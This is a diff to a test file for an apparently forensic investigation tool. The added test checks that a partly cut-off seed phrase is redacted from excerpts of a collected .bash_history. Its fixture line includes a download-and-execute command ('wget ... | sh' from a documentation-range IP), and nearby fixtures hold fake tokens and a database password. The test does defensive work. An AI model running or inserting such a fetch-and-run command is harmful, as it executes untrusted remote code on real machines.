@@ -5,7 +5,7 @@ import { dirname, join } from "node:path";
 import { test } from "node:test";
 import { caseJson } from "../../src/report/case-json.ts";
 import { investigate } from "../../src/run/investigate.ts";
-import { QUIET } from "../kit/investigated.ts";
+import { investigatedFiles, QUIET } from "../kit/investigated.ts";
 
 const SECRET = "nobodys-secret-7f3a";
 const FILES: Readonly<Record<string, string>> = {
@@ -18,6 +18,15 @@ const FILES: Readonly<Record<string, string>> = {
     `deploy        11       1  0 17:43 ?        00:00:03 ./app --token=${SECRET} --api-key ${SECRET}x\n`,
   "live_response/system/env.txt": `DB_PASSWORD=${SECRET}\n`,
 };
+
+/** A seed phrase of a line of which an excerpt shows eleven words: the twelfth would soon be guessed. */
+const LONG = `wget -q http://203.0.113.9/x -O- | sh # ${"x".repeat(1_915)} ${"zoo ".repeat(11)}wrong`;
+
+test("a phrase that an excerpt cuts off is not shown", async () => {
+  const found = await investigatedFiles({ ".bash_history": Buffer.from(`${LONG}\n`) });
+  const [step] = found.findings.flatMap(({ basis }) => basis);
+  assert.match(step?.excerpt ?? "", /x{100} \[redacted\]$/);
+});
 
 /** The case of a collection with secrets, as text. */
 async function caseText(showSecrets: boolean): Promise<string> {
